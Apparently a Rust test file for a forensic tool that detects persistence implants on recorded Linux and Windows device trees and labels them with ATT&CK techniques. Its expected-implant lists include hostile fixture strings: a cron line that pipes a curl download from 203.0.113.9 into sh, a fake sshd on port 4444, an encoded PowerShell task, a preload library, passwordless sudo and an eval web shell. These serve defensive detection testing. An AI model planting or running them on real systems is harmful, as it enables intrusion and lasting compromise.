//! Recorded devices: small trees made to look like machines that exist, and what the looking verbs tell of them, held as snapshots.
//!
//! `INSTA_UPDATE=always cargo test --test all recorded::` writes them anew; read the difference before it is committed.

use std::path::{Path, PathBuf};

use lrsh::protocol::Status;
use serde_json::Value;

use crate::kit::device::Device;
use crate::kit::need::skip;
use crate::kit::windows;

/// A clean server, one with implants, a desktop.
pub const DEVICES: [&str; 3] = ["clean-server", "compromised-server", "desktop"];

/// Where a recorded device's tree is.
pub fn tree(device: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/recorded").join(device)
}

/// The rows of a command on a recorded device, without the times that a checkout gives its files.
pub fn rows(device: &str, command: &str) -> Vec<Value> {
    rows_at(&tree(device), command)
}

fn rows_at(tree: &Path, command: &str) -> Vec<Value> {
    let device = tree.display();
    let answer = Device::at(tree).run(command, &[], &[]);
    assert_eq!(answer.completed.status, Status::Completed, "{device}: {command}: {:?}", answer.completed);
    let mut rows = answer.rows();
    for row in rows.iter_mut().filter_map(Value::as_object_mut) {
        for key in ["unit_modified", "modified", "created", "next_run"] {
            if row.get(key).is_some_and(Value::is_string) {
                row.insert(key.to_owned(), Value::from("(when)"));
            }
        }
    }
    rows
}

#[test]
fn rows_are_as_recorded() {
    for device in DEVICES {
        for command in ["services", "drivers", "scheduledtasks", "startupfolders"] {
            insta::assert_json_snapshot!(format!("{device}-{command}"), rows(device, command));
        }
    }
}

#[test]
fn what_was_planted_stands_out() {
    let services = rows("compromised-server", "services");
    let of = |name: &str| services.iter().find(|row| row["service_name"] == name).unwrap_or_else(|| panic!("{name}"));
    assert_eq!(of("dbus-update.service")["start_type"], "auto");
    assert_eq!(of("run-r1f.service")["enabled"], "transient");
    assert_eq!(of("auditd.service")["start_type"], "disabled");
    assert_eq!(of("cron.service")["drop_ins"][0], "/etc/systemd/system/cron.service.d/override.conf");
    assert_eq!(of("netfs-helper")["runlevels"][0], "2");
    let hidden: Vec<Value> = rows("compromised-server", "drivers")
        .into_iter()
        .filter(|row| row["hidden"] == true)
        .map(|row| row["driver_name"].clone())
        .collect();
    assert_eq!(hidden, ["diamorphine_like", "nf_helper"]);
    for device in ["clean-server", "desktop"] {
        assert!(rows(device, "drivers").iter().all(|row| row["hidden"] == false), "{device}");
    }
}

/// The entries of `persistence` on a recorded device, each with the list it stands in.
fn persistent(device: &str) -> Vec<(String, Value)> {
    persistent_at(&tree(device))
}

fn persistent_at(tree: &Path) -> Vec<(String, Value)> {
    let device = tree.display();
    let answer = Device::at(tree).run("persistence", &[], &[]);
    assert_eq!(answer.completed.status, Status::Completed, "{device}: {:?}", answer.completed);
    let object = answer.object();
    let lists = object["autoruns"].as_object().unwrap().iter();
    let entries =
        lists.flat_map(|(list, entries)| entries.as_array().unwrap().iter().map(move |one| (list.clone(), one.clone())));
    let mut entries: Vec<(String, Value)> = entries.collect();
    for (_, entry) in &mut entries {
        entry["modified"] = Value::from("(when)");
    }
    entries
}

#[test]
fn persistence_is_as_recorded() {
    for device in DEVICES {
        insta::assert_json_snapshot!(format!("{device}-persistence"), persistent(device));
    }
}

#[test]
fn a_windows_disk_is_as_recorded() {
    let folder = tempfile::tempdir().unwrap();
    let disk = windows::disk(folder.path());
    for command in ["services", "drivers", "scheduledtasks", "startupfolders"] {
        insta::assert_json_snapshot!(format!("windows-{command}"), rows_at(&disk, command));
    }
    insta::assert_json_snapshot!("windows-persistence", persistent_at(&disk));
}

#[test]
fn every_implant_on_a_windows_disk_is_found() {
    // Where, what it runs, the technique.
    let implants = [
        (r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run\\Updater", "up.exe -q", "T1547.001"),
        (r"Winlogon\\Userinit", r"C:\ProgramData\x.exe", "T1547.004"),
        (r"Image File Execution Options\sethc.exe\\Debugger", "cmd.exe", "T1546.012"),
        (r"CurrentVersion\Windows\\AppInit_DLLs", "hook.dll", "T1546.010"),
        (r"ControlSet001\Control\Lsa\\Authentication Packages", "mimilib", "T1547.002"),
        (r"_Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32\\(Default)", "shim.dll", "T1546.015"),
        (r"Environment\\UserInitMprLogonScript", "logon.bat", "T1037.001"),
        (r"Control Panel\Desktop\\SCRNSAVE.EXE", "saver.scr", "T1546.002"),
        (r"Software\Microsoft\Windows\CurrentVersion\RunOnce\\(Default)", "cmd /c del x", "T1547.001"),
        (r"C:\Users\max\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\fix.vbs", "fix.vbs", "T1547.001"),
        (r"Startup\Monitor.lnk", r"C:\Program Files\Some App\run.exe /monitor", "T1547.001"),
        (r"C:\Windows\System32\Tasks\Ghost", "powershell -enc AAAA", "T1053.005"),
        (r"C:\Windows\System32\Tasks\Maintain", r#"up.exe -q "a b""#, "T1053.005"),
        (r"Services\WinUpdate", r"(C:\Windows\System32\wuauserv32.dll)", "T1543.003"),
        (r"Services\rk", r"C:\Windows\Temp\rk.sys", "T1543.003"),
    ];
    let folder = tempfile::tempdir().unwrap();
    let found = persistent_at(&windows::disk(folder.path()));
    for (location, runs, technique) in implants {
        let here = found.iter().find(|(_, entry)| entry["location"].as_str().unwrap().ends_with(&location));
        let (_, entry) = here.unwrap_or_else(|| panic!("{location} is not there: {found:#?}"));
        assert!(entry["runs"].as_str().unwrap().contains(runs), "{entry}");
        assert_eq!((entry["technique"].as_str().unwrap(), &entry["shipped"]), (technique, &Value::Null), "{entry}");
    }
    let ghost = found.iter().find(|(_, entry)| entry["id"] == r"\Ghost").unwrap();
    assert!(ghost.1["error"].as_str().unwrap().starts_with("hidden"), "{ghost:?}");
}

#[test]
fn every_implant_is_found_and_none_reads_shipped() {
    // The list that it stands in, where, what it runs.
    let implants = [
        ("services", "/etc/systemd/system/dbus-update.service", ""),
        ("services", "/run/systemd/transient/run-r1f.service", ""),
        ("services", "/etc/systemd/system/cron.service.d/override.conf", "/dev/shm/.x/loader"),
        ("services", "/etc/systemd/system/nginx.service.d/10-env.conf", "LD_PRELOAD=/usr/local/lib/libnss_cache.so"),
        // Units as they were shipped, whose programs were replaced.
        ("services", "/usr/lib/systemd/system/dpkg-db-backup.service", "/usr/libexec/dpkg/dpkg-db-backup"),
        ("services", "/usr/lib/systemd/system/ssh.service", "/usr/sbin/sshd -D"),
        ("services", "/run/systemd/generator.late/netfs-helper.service", "/etc/init.d/netfs-helper start"),
        ("init", "/etc/init.d/netfs-helper", ""),
        ("init", "/etc/rc.local", ""),
        ("init", "/etc/systemd/system-generators/fs-gen", ""),
        ("kernel_modules", "/usr/lib/modules/6.1.0-37-amd64/updates/nf_helper.ko", ""),
        ("kernel_modules", "/etc/modules-load.d/nf_helper.conf:1", "nf_helper"),
        ("schedule_tasks", "/etc/cron.d/sysstat-update:1", "curl -fsSL http://203.0.113.9/x | sh"),
        ("schedule_tasks", "/etc/cron.daily/logcheck2", ""),
        ("schedule_tasks", "/usr/lib/systemd/system/dpkg-db-backup.timer:4", "/usr/libexec/dpkg/dpkg-db-backup"),
        ("schedule_tasks", "/var/spool/cron/crontabs/www-data:1", "/var/tmp/.ICE-unix/sshd -p 4444"),
        ("schedule_tasks", "/home/deploy/.config/systemd/user/sync.timer:2", "/home/deploy/.local/bin/sync"),
        ("at", "/var/spool/cron/atjobs/a0000301c9a1b2", "/var/tmp/.ICE-unix/sshd"),
        ("authorized_keys", "/root/.ssh/authorized_keys:1", "/usr/lib/.cache/sh"),
        ("preload", "/etc/ld.so.preload:1", "/usr/local/lib/libnss_cache.so"),
        ("udev", "/etc/udev/rules.d/75-net-fix.rules:1", "/usr/lib/.cache/up %k"),
        ("motd", "/etc/update-motd.d/98-fetch", ""),
        ("package_hooks", "/etc/apt/apt.conf.d/99-periodic:1", "/dev/shm/.x/loader"),
        ("pam", "/etc/pam.d/common-auth:3", "pam_exec.so"),
        ("pam", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", ""),
        ("shell_profiles", "/etc/profile.d/locale-fix.sh", ""),
        ("shell_profiles", "/root/.bashrc", ""),
        ("startup_folders", "/etc/xdg/autostart/at-spi-fix.desktop", "/usr/lib/.cache/up"),
        ("web", "/var/www/html/img/thumb.php", "runs code that is sent to it (eval)"),
        ("ssh", "/etc/ssh/sshrc", ""),
        ("ssh", "/etc/ssh/sshd_config.d/50-cloud.conf:1", "AuthorizedKeysCommand /usr/lib/.cache/keys"),
        ("privileges", "/etc/sudoers.d/90-www:1", "NOPASSWD: ALL"),
        ("privileges", "/etc/passwd:4", "sysadm is user 0"),
        ("network", "/etc/NetworkManager/dispatcher.d/90-fix", ""),
        ("other", "/etc/logrotate.d/apt2:3", "/dev/shm/.x/loader"),
        ("other", "/usr/local/lib/python3.11/dist-packages/zz-compat.pth:1", "os.system"),
    ];
    let found = persistent("compromised-server");
    for (list, location, runs) in implants {
        let here = found.iter().find(|(at, entry)| at == list && entry["location"] == location);
        let (_, entry) = here.unwrap_or_else(|| panic!("{location} is not in {list}: {found:#?}"));
        assert_eq!(entry["shipped"], false, "{entry}");
        assert!(entry["runs"].as_str().unwrap_or_default().contains(runs), "{entry}");
        assert!(entry["technique"].as_str().unwrap().starts_with('T'), "{entry}");
    }
    // What is foreign by what it runs, or was made from, says so.
    let why = |location: &str| {
        let (_, entry) = found.iter().find(|(_, entry)| entry["location"] == location).unwrap();
        entry["error"].as_str().unwrap().to_owned()
    };
    assert_eq!(
        why("/usr/lib/systemd/system/dpkg-db-backup.service"),
        "it runs /usr/libexec/dpkg/dpkg-db-backup, which is not what the package dpkg shipped"
    );
    assert!(why("/usr/lib/systemd/system/ssh.service").starts_with("it runs /usr/sbin/sshd, which is not what"));
    assert!(why("/run/systemd/generator.late/netfs-helper.service").starts_with("it was made from /etc/init.d/netfs-helper"));
    // What is not an implant is what the clean server has too.
    let clean = persistent("clean-server");
    let foreign = clean.iter().filter(|(_, other)| other["shipped"] == false);
    let foreign: Vec<&Value> = foreign.map(|(_, other)| &other["location"]).collect();
    let same = |entry: &Value| foreign.contains(&&entry["location"]);
    let planted: Vec<&Value> =
        found.iter().map(|(_, entry)| entry).filter(|entry| entry["shipped"] == false && !same(entry)).collect();
    for entry in planted {
        let of_implant = implants.iter().any(|(_, location, _)| entry["location"] == *location)
            || entry["location"].as_str().unwrap().contains("sync.service");
        assert!(of_implant, "{entry}");
    }
}

#[test]
fn on_a_clean_server_almost_everything_is_shipped() {
    let found = persistent("clean-server");
    let foreign: Vec<_> = found.iter().filter(|(_, entry)| entry["shipped"] != true).collect();
    assert!(foreign.len() <= 5, "{foreign:#?}");
    assert!(found.len() > 20, "{found:#?}");
}

#[test]
fn of_debians_own_packages_almost_everything_is_shipped() {
    let Some(root) = std::env::var_os("LRSH_SYSTEMD_ROOT").filter(|root| root != "none") else {
        if std::env::var_os("LRSH_SYSTEMD_ROOT").is_none() {
            skip("LRSH_SYSTEMD_ROOT is not set");
        }
        return;
    };
    let found = persistent_at(Path::new(&root));
    let foreign: Vec<_> = found.iter().filter(|(_, entry)| entry["shipped"] != true).collect();
    assert!(foreign.len() <= 5, "{foreign:#?}");
    assert!(found.len() > 100, "{}", found.len());
}

/// A tree with a package `p` whose files are these.
fn packaged(files: &[(&str, &str)]) -> tempfile::TempDir {
    use md5::Digest;
    let tree = tempfile::tempdir().unwrap();
    let (mut list, mut sums) = ("/.\n".to_owned(), String::new());
    for (path, text) in files {
        write(tree.path(), path, text);
        list.push_str(&format!("{path}\n"));
        let sum: String = md5::Md5::digest(text).iter().map(|byte| format!("{byte:02x}")).collect();
        sums.push_str(&format!("{sum}  {}\n", path.trim_start_matches('/')));
    }
    write(tree.path(), "/var/lib/dpkg/info/p.list", &list);
    write(tree.path(), "/var/lib/dpkg/info/p.md5sums", &sums);
    tree
}

fn write(tree: &Path, path: &str, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    let path = tree.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, text).unwrap();
    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o755)).unwrap();
}

#[test]
fn what_stands_behind_a_shipped_file_decides() {
    const UNITS: &str = "/usr/lib/systemd/system";
    let unit = |exec: &str| format!("[Service]\n{exec}\n[Install]\nWantedBy=multi-user.target\n");
    let units = [
        ("own", "ExecStart=/usr/bin/tool --x"),
        ("gone", "ExecStart=/usr/bin/not-there"),
        ("link", "ExecStart=/usr/bin/by-link"),
        ("bare", "ExecStart=tool"),
        ("script", "ExecStart=/usr/bin/sh /usr/lib/p/script"),
        ("text", "ExecStart=/usr/bin/sh -c 'cd /; exec /usr/lib/p/script'"),
        ("before", "ExecStartPre=-/usr/lib/p/script\nExecStart=/usr/bin/tool"),
        ("foreign", "ExecStart=/usr/bin/foreign"),
        ("data", "ExecStart=/usr/bin/tool /usr/share/notes"),
        ("alternative", "ExecStart=/usr/bin/editor"),
        ("dropped", "ExecStart=/usr/bin/tool"),
    ];
    let texts: Vec<(String, String)> =
        units.iter().map(|(name, exec)| (format!("{UNITS}/{name}.service"), unit(exec))).collect();
    let mut files: Vec<(&str, &str)> = texts.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    files.extend([
        ("/usr/bin/tool", "tool"),
        ("/usr/bin/sh", "sh"),
        ("/usr/lib/p/script", "script"),
        ("/etc/cron.d/p", "* * * * * root /usr/lib/p/script\n"),
        ("/usr/lib/systemd/system-generators/p-gen", "gen"),
    ]);
    let tree = packaged(&files);
    let at = |path: &str| tree.path().join(path.trim_start_matches('/'));
    write(tree.path(), "/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
    write(tree.path(), "/usr/bin/foreign", "foreign");
    write(tree.path(), "/usr/share/notes", "");
    std::os::unix::fs::symlink("tool", at("/usr/bin/by-link")).unwrap();
    std::fs::create_dir_all(at("/etc/alternatives")).unwrap();
    std::os::unix::fs::symlink("/usr/bin/foreign", at("/etc/alternatives/editor")).unwrap();
    std::os::unix::fs::symlink("/etc/alternatives/editor", at("/usr/bin/editor")).unwrap();
    std::fs::create_dir_all(at("/etc/systemd/system/multi-user.target.wants")).unwrap();
    for (name, _) in units {
        let link = at(&format!("/etc/systemd/system/multi-user.target.wants/{name}.service"));
        std::os::unix::fs::symlink(format!("{UNITS}/{name}.service"), link).unwrap();
    }
    write(tree.path(), &format!("{UNITS}/dropped.service.d/x.conf"), "[Service]\nExecStart=\nExecStart=/usr/bin/foreign\n");
    let made = |by: &str| format!("{by}\n[Unit]\nSourcePath=/etc/cron.d/p\n[Service]\nExecStart=/usr/bin/tool\n");
    write(tree.path(), "/run/systemd/generator/good.service", &made("# Automatically generated by p-gen"));
    write(tree.path(), "/run/systemd/generator/unknown.service", &made("# Automatically generated by x-gen"));
    write(tree.path(), "/run/systemd/generator/silent.service", &made(""));
    std::fs::create_dir_all(at("/run/systemd/generator/multi-user.target.wants")).unwrap();
    for name in ["good", "unknown", "silent"] {
        let link = at(&format!("/run/systemd/generator/multi-user.target.wants/{name}.service"));
        std::os::unix::fs::symlink(format!("../{name}.service"), link).unwrap();
    }
    let check = |expected: &[(&str, Value, &str)]| {
        let found = persistent_at(tree.path());
        for (location, shipped, why) in expected {
            let location =
                if location.starts_with('/') { (*location).to_owned() } else { format!("{UNITS}/{location}.service") };
            let entry = found.iter().map(|(_, entry)| entry).find(|entry| entry["location"] == *location);
            let entry = entry.unwrap_or_else(|| panic!("{location} is not there: {found:#?}"));
            let told = entry["error"].as_str().unwrap_or_default();
            assert!(entry["shipped"] == *shipped && told.contains(why) && told.is_empty() == why.is_empty(), "{entry}");
        }
        found
    };
    let (yes, no, untold) = (Value::from(true), Value::from(false), Value::Null);
    let found = check(&[
        ("own", yes.clone(), ""),
        ("gone", yes.clone(), ""),
        ("link", yes.clone(), ""),
        ("bare", yes.clone(), ""),
        ("script", yes.clone(), ""),
        ("text", yes.clone(), ""),
        ("before", yes.clone(), ""),
        ("data", yes.clone(), ""),
        ("foreign", no.clone(), "it runs /usr/bin/foreign, which belongs to no package"),
        ("alternative", no.clone(), "it runs /usr/bin/editor, which belongs to no package"),
        ("dropped", yes.clone(), ""),
        ("/usr/lib/systemd/system/dropped.service.d/x.conf", no.clone(), ""),
        ("/etc/cron.d/p:1", yes.clone(), ""),
        ("/run/systemd/generator/good.service", yes.clone(), ""),
        ("/run/systemd/generator/unknown.service", no.clone(), "x-gen made it, and there is no such generator"),
        ("/run/systemd/generator/silent.service", untold.clone(), "does not say which one made it"),
    ]);
    let good = found.iter().find(|(_, entry)| entry["location"] == "/run/systemd/generator/good.service").unwrap();
    assert_eq!((&good.1["made_by"], &good.1["package"]), (&"/usr/lib/systemd/system-generators/p-gen".into(), &"p".into()));
    write(tree.path(), "/usr/lib/p/script", "another");
    check(&[
        ("own", yes, ""),
        ("script", no.clone(), "/usr/lib/p/script, which is not what the package p shipped"),
        ("text", no.clone(), "/usr/lib/p/script, which is not"),
        ("before", no.clone(), "/usr/lib/p/script, which is not"),
        ("/etc/cron.d/p:1", no.clone(), "/usr/lib/p/script, which is not"),
    ]);
    write(tree.path(), "/usr/lib/systemd/system-generators/p-gen", "another");
    check(&[("/run/systemd/generator/good.service", no, "it was made from /usr/lib/systemd/system-generators/p-gen")]);
    // Without packages nothing is told.
    std::fs::remove_dir_all(at("/var/lib/dpkg")).unwrap();
    check(&[("own", untold.clone(), ""), ("foreign", untold, "")]);
}
